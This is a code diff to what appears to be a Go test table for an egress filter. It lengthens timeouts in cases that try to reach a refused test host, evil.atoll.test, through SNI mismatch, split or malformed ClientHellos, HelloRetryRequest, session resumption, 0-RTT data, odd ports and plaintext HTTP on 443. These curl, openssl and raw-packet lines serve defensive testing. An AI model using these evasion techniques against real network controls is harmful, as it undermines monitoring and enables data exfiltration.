@@ -3,9 +3,9 @@ package egress
 // What a ClientHello says, or doesn't.
 var helloRows = []evasion{
 	{id: "sni-other", attack: "TLS to an allowed host, with a refused one in its hello", in: listed, script: `#!
-curl -sk -m 5 --connect-to evil.atoll.test:443:api.atoll.test:443 https://evil.atoll.test/
+curl -sk -m 60 --connect-to evil.atoll.test:443:api.atoll.test:443 https://evil.atoll.test/
 openssl s_client -connect api.atoll.test:443 -servername evil.atoll.test </dev/null 2>/dev/null | head -2
-curl -s -m 5 https://api.atoll.test/fine`, arrives: []string{"api GET api.atoll.test/fine HTTP/2.0"}, open: "hello evil"},
+curl -s -m 60 https://api.atoll.test/fine`, arrives: []string{"api GET api.atoll.test/fine HTTP/2.0"}, open: "hello evil"},
 	{id: "sni-missing", attack: "TLS without a name in its hello", in: listed,
 		script: `talk(RAW, 443, records(hello()))`},
 	{id: "sni-none", attack: "a hello without any extension, as before TLS 1.0's", in: listed,
@@ -33,9 +33,10 @@ h = records(hello(EVIL))
 talk(RAW, 443, h[:1], h[1:], pause=1.3)
 talk(RAW, 443, h[:80], h[80:], pause=1.3)`},
 	{id: "hello-retry", attack: "another name in the second hello, which the server asks for (HelloRetryRequest)", in: listed, script: `
-s = tcp(RAW, 443)
+s = tcp(RAW, 443, wait=PATIENCE)
 say(s, records(hello(RAW, share=b"")))
 print("asked again:", b"\xcf\x21\xad\x74" in hear(s))
+s.settimeout(WAIT)
 say(s, b"\x14\x03\x03\0\x01\x01" + records(hello(EVIL)))
 print(hear(s)[:100])`, prints: "asked again: true", never: `evil\.atoll\.test`, open: `evil\.atoll\.test`},
 	{id: "hello-malformed", attack: "a hello that only a lenient server reads", in: listed, script: `
@@ -50,7 +51,7 @@ body = b"\x01\x03\x01" + struct.pack(">HHH", 3, 0, 16) + b"\x07\x00\xc0" + b"evi
 talk(RAW, 443, struct.pack(">H", 0x8000 | len(body)) + body)`},
 	{id: "resumption", attack: "a session with an allowed host, resumed for a refused one", in: listed, script: `#!
 t=$(mktemp)
-(sleep 0.3; echo) | openssl s_client -tls1_3 -connect api.atoll.test:443 -servername api.atoll.test -sess_out $t >/dev/null 2>&1
+(for n in $(seq 600); do test -s $t && break; sleep 0.1; done; echo) | timeout 60 openssl s_client -tls1_3 -connect api.atoll.test:443 -servername api.atoll.test -sess_out $t >/dev/null 2>&1
 openssl s_client -tls1_3 -connect api.atoll.test:443 -servername evil.atoll.test -sess_in $t </dev/null 2>/dev/null | head -1`,
 		arrives: []string{"api hello api.atoll.test"}, open: "hello evil"},
 	{id: "early-data", attack: "data right behind a hello, for a refused name (0-RTT)", in: listed, script: `
@@ -58,7 +59,7 @@ early = b"\x17\x03\x03\0\x20" + b"evil" * 8
 talk(RAW, 443, records(hello(EVIL, extension(42, b""))) + early)`},
 	{id: "tls-odd-port", attack: "TLS for a refused name on ports where nobody expects it", in: listed, script: `#!
 for port in 80 22 8443 31337; do
-  curl -sk -m 3 --connect-to evil.atoll.test:$port:raw.atoll.test:$port https://evil.atoll.test:$port/
+  curl -sk -m 60 --connect-to evil.atoll.test:$port:raw.atoll.test:$port https://evil.atoll.test:$port/
 done`},
 	{id: "plain-on-443", attack: "HTTP in clear on port 443, for a refused name", in: listed,
 		script: `talk(RAW, 443, http("GET / HTTP/1.1", "Host: evil.atoll.test"))`},
